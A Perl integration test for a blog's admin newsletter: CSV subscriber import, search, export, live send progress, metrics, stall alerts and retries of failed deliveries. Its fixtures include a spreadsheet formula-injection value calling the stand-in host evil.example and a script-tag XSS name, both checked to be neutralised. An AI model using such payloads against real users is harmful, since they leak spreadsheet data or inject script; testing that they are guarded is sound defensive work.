#!/usr/bin/perl
# The newsletter in the admin panel and in the jobrunner's monitoring: a
# real nginx and a real jobrunner.  Subscribers listed, searched and
# counted by status; a CSV import that sends confirmation mails, one of
# people who consented already, refused rows with their line; the export
# read back as CSV, formulas guarded; a send's progress as live events of
# the realtime hub (admins only), its counts in /metrics (promtool), its
# dead letters on its page and queued again by a button; the stall alert
# when a send makes no progress.

use strict;
use warnings;
use FindBin;
use lib "$FindBin::Bin/lib";
use Test::More;
use BlogTest;
use BlogAdmin;
use BlogMail;
use BlogSSE;

my $site = admin_site(location => "blog_live_url /events/;\nblog_newsletter on;\n");
my $d = $site->dir;
my $base = 'http://127.0.0.1:' . $site->port;
blogctl('-d', $site->db, 'set', 'base_url', $base);
my $db = $site->db;
my $queue = "$d/queue.db";
my $sse = "$d/sse.sock";
my $metrics_port = free_port();

$site->{server} .= <<"EOF";
        location /events/ {
            blog_events off;
            blog_admin_session $d/data.db;
            proxy_pass http://unix:$sse:;
            proxy_buffering off;
            proxy_read_timeout 1h;
            proxy_set_header X-Blog-Admin \$blog_admin_user;
        }
EOF
$site->start;
smtp_setup($d);
# "defer..." recipients get 451 twice, then 250 (t/lib/smtpd.py --rules)
mkdir "$d/smtp-state" or die "smtp-state: $!";
start_smtp('--rules', "$d/smtp-state");
$site->start_jobrunner("metrics_listen = 127.0.0.1:$metrics_port\n"
    . "sse_socket = $sse\nsse_heartbeat_ms = 1000\n"
    . "theme = $BlogTest::ROOT/conf/theme\n"
    . "[mail]\nsmtp_url = smtp://127.0.0.1:" . smtp_port() . "\n"
    . "from = blog\@example.org\nstarttls = off\n"
    . "rate = 100\nretry = 1s\nattempts = 1\n"
    . "newsletter_progress = 1s\nnewsletter_stall = 3s\n");

my ($res, $jar) = login_as($site, 'admin', 'correct horse battery');
is $res->{status}, 303, 'the admin signs in';
my $cookie = "blog_session=$jar->{blog_session}";

sub metrics { http_request($metrics_port, 'GET', '/metrics')->{body} // '' }

# --- the empty list ---------------------------------------------------------

my $r = jar_get($site, $jar, '/admin/subscribers');
is $r->{status}, 200, 'the subscribers page';
like $r->{body}, qr{<span class="count" id="count-all">0</span>}, '... counts none';
like $r->{body}, qr{No subscribers\.}, '... and says so';
like $r->{body}, qr{<a href="/admin/newsletters">Newsletters</a>}, 'the menu has the newsletters';
my $csrf = csrf_of($r->{body});

sub import_csv {
    my ($csv, $consent) = @_;
    my ($type, $body) = multipart([csrf => $csrf],
        $consent ? ([consent => 'yes']) : (),
        [file => $csv, 'list.csv', 'text/csv']);
    return jar_post_raw('/admin/subscribers/import', $type, $body);
}

sub jar_post_raw {
    my ($path, $type, $body) = @_;
    return $site->request('POST', $path, Cookie => $cookie,
                          'Content-Type' => $type, _body => $body);
}

# --- import with confirmation mails --------------------------------------

my $csv = join "\r\n",
    'email,name',
    'ada@example.org,Ada Lovelace',
    '"grace@example.org","Hopper, Grace"',
    '',
    'not-an-address,Nobody',
    'alan@example.org,=HYPERLINK("http://evil.example/?"&A1)',
    'x@example.org,a,b',
    '"broken@example.org,Open quote',
    'edsger@example.org,<script>alert(1)</script>',
    '100%_off@example.org';
$r = import_csv("$csv\r\n", 0);
is $r->{status}, 200, 'an import to confirm';
like $r->{body}, qr{Imported: <strong>5</strong> added, each sent a confirmation mail}, '... adds five';
like $r->{body}, qr{0 pending made active; 0 already here, left as they are; 3 refused}, '... refuses three';
like $r->{body}, qr{<li>Line 5: not an e-mail address</li>}, '... with the line of a bad address';
like $r->{body}, qr{<li>Line 7: more than two columns \(email,name\)</li>}, '... of three columns';
like $r->{body}, qr{<li>Line 8: not CSV}, '... and of a quote not closed';
is sql($db, "SELECT group_concat(email || ':' || status || ':' || source, ' ') FROM (SELECT * FROM subscribers ORDER BY id)"),
    'ada@example.org:pending:import grace@example.org:pending:import alan@example.org:pending:import edsger@example.org:pending:import 100%_off@example.org:pending:import',
    'the five are pending, from the import';
is sql($db, "SELECT name FROM subscribers WHERE email = 'grace\@example.org'"), 'Hopper, Grace',
    'a quoted name with a comma is one field';
is sql($db, "SELECT count(*) FROM subscribers WHERE confirmed_at IS NOT NULL"), 0, '... none confirmed';
is sql($queue, "SELECT count(*) FROM jobs WHERE kind = 'subscribe'"), 5,
    'a confirmation mail queued for each (the form\'s "subscribe" job)';
is sql($queue, "SELECT json_extract(payload, '\$.email') || '|' || json_extract(payload, '\$.name') FROM jobs WHERE kind = 'subscribe' ORDER BY id LIMIT 1"),
    'ada@example.org|Ada Lovelace', '... with the address and the name';
like $site->error_log, qr/subscriber import: line 5 refused: not an e-mail address/,
    'refused rows are in the error log';

# the confirmation mails arrive, and a link makes its pending row active
my @mails = wait_mails(5);
my %to = map { /^X-RcptTo: (\S+?)\r?$/m ? (lc $1 => $_) : () } @mails;
is join(' ', sort keys %to),
    '100%_off@example.org ada@example.org alan@example.org edsger@example.org grace@example.org',
    'each imported address gets a confirmation mail';
my ($token) = ($to{'grace@example.org'} // '') =~ m{^\Q$base\E/subscribe/confirm\?t=([A-Za-z0-9_.-]+)\r?$}m;
ok $token, '... with its link';
$r = $site->request('POST', '/subscribe/confirm', 'Content-Type' => 'application/x-www-form-urlencoded',
                    _body => 't=' . ($token // ''));
is sql($db, "SELECT status || ':' || source || ':' || (confirmed_at IS NOT NULL) FROM subscribers WHERE email = 'grace\@example.org'"),
    'active:import:1', 'following it makes the imported row active';

# --- import of people who consented --------------------------------------

sql($db, "UPDATE subscribers SET status = 'unsubscribed' WHERE email = 'alan\@example.org'");
$r = import_csv("ADA\@example.org,Ada\nalan\@example.org,Alan\nlinus\@example.org,Linus\n", 1);
is $r->{status}, 200, 'an import of people who consented';
like $r->{body}, qr{Imported: <strong>1</strong> added as active;\s+1 pending made active; 1 already here}, '... adds one, activates one, keeps one';
is sql($db, "SELECT status || ':' || (confirmed_at IS NOT NULL) FROM subscribers WHERE email = 'linus\@example.org'"),
    'active:1', 'the new one is active and confirmed';
is sql($db, "SELECT status FROM subscribers WHERE email = 'ada\@example.org'"), 'active',
    'a pending one is made active (the address in another case is the same)';
is sql($db, "SELECT status FROM subscribers WHERE email = 'alan\@example.org'"), 'unsubscribed',
    'one who unsubscribed stays so';
is sql($queue, "SELECT count(*) FROM jobs WHERE kind = 'subscribe'"), 5, 'no confirmation mail for them';

$r = jar_post_raw('/admin/subscribers/import', multipart([csrf => $csrf], [consent => 'yes']));
is $r->{status}, 422, 'an import without a file: 422';
like $r->{body}, qr{Choose a CSV file}, '... saying what is missing';
$r = jar_post_raw('/admin/subscribers/import', multipart([csrf => 'f' x 64], [file => "a\@b.c\n", 'x.csv', 'text/csv']));
is $r->{status}, 403, 'an import without the form token: 403';

# --- the list: counts, search, status ------------------------------------

$r = jar_get($site, $jar, '/admin/subscribers');
like $r->{body}, qr{id="count-all">6<}, 'six in all';
like $r->{body}, qr{id="count-active">3<}, 'three active';
like $r->{body}, qr{id="count-pending">2<}, 'two pending';
like $r->{body}, qr{id="count-unsubscribed">1<}, 'one unsubscribed';
like $r->{body}, qr{id="count-bounced">0<}, 'none bounced';
like $r->{body}, qr{<td>&lt;script&gt;alert\(1\)&lt;/script&gt;</td>}, 'a hostile name is escaped';
unlike $r->{body}, qr{<script>alert}, '... never markup';

$r = jar_get($site, $jar, '/admin/subscribers?q=hopper');
my @rows = $r->{body} =~ /<tr id="subscriber-\d+"><td>([^<]*)</g;
is "@rows", 'grace@example.org', 'a search finds the name';
like $r->{body}, qr{name="q" value="hopper"}, '... and keeps the query in its form';
$r = jar_get($site, $jar, '/admin/subscribers?q=%25_off');
@rows = $r->{body} =~ /<tr id="subscriber-\d+"><td>([^<]*)</g;
is "@rows", '100%_off@example.org', '% and _ are searched as they are';
$r = jar_get($site, $jar, '/admin/subscribers?q=example&status=active');
@rows = $r->{body} =~ /<tr id="subscriber-\d+"><td>([^<]*)</g;
is "@rows", 'linus@example.org grace@example.org ada@example.org', 'a search within a status, newest first';
like $r->{body}, qr{<a href="/admin/subscribers\?status=active" aria-current="page">}, '... its tab current';
$r = jar_get($site, $jar, '/admin/subscribers?q=nobody-here');
like $r->{body}, qr{No subscribers match &ldquo;nobody-here&rdquo;\.}, 'a search without results says so';

# --- the export, read back -------------------------------------------------

# RFC 4180 records: fields in quotes may hold commas, quotes, line breaks
sub parse_csv {
    my ($text) = @_;
    my (@records, @fields, $field);
    pos($text) = 0;
    while (pos($text) < length $text) {
        if ($text =~ /\G"((?:[^"]|"")*)"/gc) {
            ($field = $1) =~ s/""/"/g;
        } else {
            $text =~ /\G([^,\r\n]*)/gc;
            $field = $1;
        }
        push @fields, $field;
        if ($text =~ /\G,/gc) { next }
        $text =~ /\G\r\n/gc or die 'not CSV at ' . pos($text);
        push @records, [@fields];
        @fields = ();
    }
    return @records;
}

$r = jar_get($site, $jar, '/admin/subscribers/export.csv');
is $r->{status}, 200, 'the export';
like $r->{headers}{'content-type'}, qr{^text/csv; charset=utf-8$}, '... as CSV';
is $r->{headers}{'content-disposition'}, 'attachment; filename="subscribers.csv"', '... to save';
is $r->{headers}{'cache-control'}, 'no-store', '... never cached';
my @csv = parse_csv($r->{body});
is_deeply $csv[0], [qw(email name status source created confirmed unsubscribed bounced)], 'a header row';
is scalar @csv, 7, 'a row per subscriber';
my %by = map { $_->[0] => $_ } @csv[1 .. $#csv];
is $by{'grace@example.org'}[1], 'Hopper, Grace', 'a name with a comma reads back whole';
is $by{'alan@example.org'}[1], q{'=HYPERLINK("http://evil.example/?"&A1)},
    'a formula is guarded with a quote';
is $by{'linus@example.org'}[2], 'active', 'the status';
like $by{'linus@example.org'}[5], qr/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ$/, 'times in ISO 8601';
is $by{'edsger@example.org'}[5], '', 'no time: an empty field';

# --- a send's progress -------------------------------------------------------

# a newsletter being sent to six subscribers, as the sender leaves it:
# its deliveries first, so that no tick of the progress (every second)
# counts the send between the two and publishes it with none, which a
# subscriber would then get "at once"
my $now = time;
sql($queue, join '', map { "INSERT INTO deliveries (newsletter_id, subscriber_id, next_try, updated_at) VALUES (7, $_, $now, $now);" } 1 .. 6);
sql($db, "INSERT INTO newsletters (id, post_id, subject, status, created_at, started_at)"
       . " VALUES (7, 999, 'Hello <world>', 'sending', $now, $now)");

my $anon = subscribe($site->port, ['newsletters.7']);
is $anon->{status}, 403, 'a send\'s progress without an admin session: 403';

my $live = subscribe($site->port, ['newsletters.7', 'alerts.*'], Cookie => $cookie);
is $live->{status}, 200, 'the admin follows the send';
my $ev = $live->next_event('progress', 15);
is_deeply $ev && $ev->{json}, { id => 7, status => 'sending', queued => 6, sending => 0,
    sent => 0, failed => 0, bounced => 0, skipped => 0, total => 6 },
    '... and has its counts at once';

sql($queue, "UPDATE deliveries SET status = 'sent', sent_at = $now WHERE subscriber_id IN (1, 2, 3)");
sql($queue, "UPDATE deliveries SET status = 'failed', attempts = 5,"
          . " last_error = 'smtp://mx: 451 <try later>' WHERE subscriber_id = 5");
sql($queue, "UPDATE deliveries SET status = 'bounced' WHERE subscriber_id = 6");
$ev = $live->next_event('progress', 15);
is_deeply $ev && [@{ $ev->{json} }{qw(queued sent failed bounced total)}], [1, 3, 1, 1, 6],
    'the counts move live: 3 sent, 1 failed, 1 bounced, 1 queued';

$r = jar_get($site, $jar, '/admin/newsletters');
like $r->{body}, qr{<a href="/admin/newsletters/7">Hello &lt;world&gt;</a></td><td>sending</td><td>3</td><td>1</td><td>1</td><td>1</td><td>6</td>},
    'the newsletters page lists it with its counts';
$r = jar_get($site, $jar, '/admin/newsletters/7');
is $r->{status}, 200, 'the newsletter\'s page';
like $r->{body}, qr{<section id="newsletter" data-events="/events/" data-topic="newsletters\.7">},
    '... follows its topic';
like $r->{body}, qr{<progress id="progress" max="100" value="83">}, '... its bar: 5 of 6 ended';
like $r->{body}, qr{<td data-count="sent">3</td>}, '... its counts';
like $r->{body}, qr{<strong>100%_off\@example\.org</strong> · 5 attempts}, '... its dead letter, with the address';
like $r->{body}, qr{<pre>smtp://mx: 451 &lt;try later&gt;</pre>}, '... and its error, escaped';
like $r->{body}, qr{value="retry">Retry every dead letter}, '... and the buttons to retry';

like metrics(), qr/^jobrunner_newsletter_messages\{newsletter="7",status="sent"\} 3$/m,
    'the metrics: messages sent';
like metrics(), qr/^jobrunner_newsletter_messages\{newsletter="7",status="failed"\} 1$/m, '... failed';
like metrics(), qr/^jobrunner_newsletter_messages\{newsletter="7",status="bounced"\} 1$/m, '... bounced';

# --- the stall alert ------------------------------------------------------

# other alerts may come first
my ($alert, $until) = (undef, time + 30);
while (time < $until) {
    $alert = $live->next_event('alert', 20) or last;
    last if ($alert->{data} // '') =~ /newsletter 7/;
}
ok $alert, 'a send without progress for newsletter_stall raises an alert';
like $alert && $alert->{data}, qr/newsletter 7: no message sent, failed or bounced for \d+ s while 1 remain/,
    '... that says which and how many remain';
like $site->jobrunner_log, qr/alert newsletter\.stalled: newsletter 7/, '... in the log';
like metrics(), qr/^jobrunner_alerts_total\{kind="newsletter\.stalled"\} 1$/m, '... counted';
like metrics(), qr/^jobrunner_newsletter_stalled\{newsletter="7"\} 1$/m, '... the send marked stalled';

SKIP: {
    my ($promtool) = grep { -x } $ENV{PROMTOOL} // (),
        map { "$_/promtool" } split /:/, $ENV{PATH};
    skip 'no promtool (Debian: prometheus)', 1 unless $promtool;
    write_file("$d/metrics.txt", metrics());
    my $out = `$promtool check metrics < $d/metrics.txt 2>&1`;
    is $?, 0, 'promtool check metrics: the jobrunner\'s' or diag $out;
}

# --- dead letters queued again ---------------------------------------------

sql($db, "UPDATE newsletters SET status = 'sent', finished_at = $now WHERE id = 7");
sql($queue, "UPDATE deliveries SET status = 'sent' WHERE subscriber_id = 4");
$r = jar_post($site, $jar, '/admin/newsletters/7', [csrf => $csrf, action => 'retry', delivery => 999]);
is $r->{status}, 404, 'retrying a dead letter the send does not have: 404';
$r = jar_post($site, $jar, '/admin/newsletters/7', [csrf => $csrf, action => 'retry']);
is $r->{status}, 303, 'the button retries the dead letters';
like $r->{headers}{location}, qr{/admin/newsletters/7\?done=requeued$}, '... back to the page';
is sql($queue, "SELECT count(*) FROM deliveries WHERE newsletter_id = 7 AND status = 'failed'"), 0,
    'no dead letter is left';
is sql($db, "SELECT status || ':' || ifnull(finished_at, '-') FROM newsletters WHERE id = 7"), 'sending:-',
    'the newsletter is sending again';
is sql($queue, "SELECT json_extract(payload, '\$.post') FROM jobs WHERE kind = 'newsletter'"), 999,
    'a run of its send is queued';
$ev = $live->next_event('progress', 15);
$ev = $live->next_event('progress', 15) while $ev && $ev->{json}{failed};
is $ev && $ev->{json}{failed}, 0, 'the live counts show it';
like metrics(), qr/^jobrunner_newsletter_stalled\{newsletter="7"\} 0$/m, 'the send is no longer stalled';
$r = jar_post($site, $jar, '/admin/newsletters/7', [csrf => $csrf, action => 'retry']);
is $r->{status}, 404, 'retrying again: none left, 404';
$r = jar_post($site, $jar, '/admin/newsletters/7', [csrf => $csrf, action => 'send']);
is $r->{status}, 400, 'an unknown action: 400';
is jar_get($site, $jar, '/admin/newsletters/8')->{status}, 404, 'an unknown newsletter: 404';

# --- a real send: its dead letter retried from the panel until it goes ------

sql($db, "INSERT INTO subscribers (email, name, status, source, created_at, confirmed_at,"
       . " updated_at) VALUES ('defer-1\@example.org', 'Slow', 'active', 'import', 1, 1, 1)");
$now = time;
sql($db, "INSERT INTO posts (type, slug, title, body_md, body_html, status, published_at,"
       . " created_at, updated_at) VALUES ('post', 'news', 'News', 'x', '<p>News.</p>',"
       . " 'published', $now, $now, $now)");
my $nl = sql($db, "SELECT n.id FROM newsletters n JOIN posts p ON p.id = n.post_id WHERE p.slug = 'news'");
ok $nl, 'publishing a post makes its newsletter';

sub sent_out {
    return wait_for(sub { sql($db, "SELECT status FROM newsletters WHERE id = $nl") eq 'sent' }, 90);
}

sub delivery_to {
    my ($email) = @_;
    return sql($db, "SELECT d.status || ':' || d.attempts FROM deliveries d"
                  . " JOIN subscribers s ON s.id = d.subscriber_id"
                  . " WHERE d.newsletter_id = $nl AND s.email = '$email'");
}

my $follow = subscribe($site->port, ["newsletters.$nl"], Cookie => $cookie);
ok sent_out(), 'the send ends' or diag sql($db, "SELECT status, count(*) FROM deliveries WHERE newsletter_id = $nl GROUP BY status");

# its events as the send went: counts that only grow, and the end
my @progress;
while (my $e = $follow->next_event('progress', 5)) {
    push @progress, $e->{json};
    last if $e->{json}{status} eq 'sent';
}
my $total = sql($db, "SELECT count(*) FROM deliveries WHERE newsletter_id = $nl");
ok @progress >= 1, 'the send\'s progress came as events: ' . scalar @progress;
is_deeply $progress[-1] && [@{ $progress[-1] }{qw(status sent failed queued sending total)}],
    ['sent', $total - 1, 1, 0, 0, $total], '... the last one: sent, the counts final';
my @sent = map { $_->{sent} } @progress;
is_deeply [@sent], [sort { $a <=> $b } @sent], '... the sent count never going back';
$follow->close_sub;
is delivery_to('defer-1@example.org'), 'failed:1', 'a 451 with one attempt allowed: a dead letter';
is delivery_to('linus@example.org'), 'sent:1', 'the others are sent';
$r = jar_get($site, $jar, "/admin/newsletters/$nl");
like $r->{body}, qr{<strong>defer-1\@example\.org</strong> · 1 attempts}, 'its page lists the dead letter';
like $r->{body}, qr{<pre>[^<]*451[^<]*</pre>}, '... with the 451';
my ($did) = $r->{body} =~ /<article class="job" id="delivery-(\d+)">/;

$r = jar_post($site, $jar, "/admin/newsletters/$nl", [csrf => $csrf, action => 'retry', delivery => $did // 0]);
is $r->{status}, 303, 'retry the one dead letter';
ok sent_out(), '... the send runs and ends again';
is delivery_to('defer-1@example.org'), 'failed:1', '... a second 451: dead again';

$r = jar_post($site, $jar, "/admin/newsletters/$nl", [csrf => $csrf, action => 'retry']);
ok sent_out(), 'retried once more';
is delivery_to('defer-1@example.org'), 'sent:1', '... the third try is taken';
is scalar(grep { /^X-RcptTo: defer-1\@example\.org\r?$/m && /^Message-ID: <nl-$nl-/m } mails()), 1,
    '... and the message arrives, once';
is sql($db, "SELECT sent || ':' || failed FROM newsletters WHERE id = $nl"),
    sql($db, "SELECT count(*) FROM deliveries WHERE newsletter_id = $nl AND status = 'sent'") . ':0',
    'the newsletter\'s final counts: all sent, none failed';

$live->close_sub;
$anon->close_sub;
stop_smtp();
$site->stop_jobrunner;
$site->stop;
done_testing;
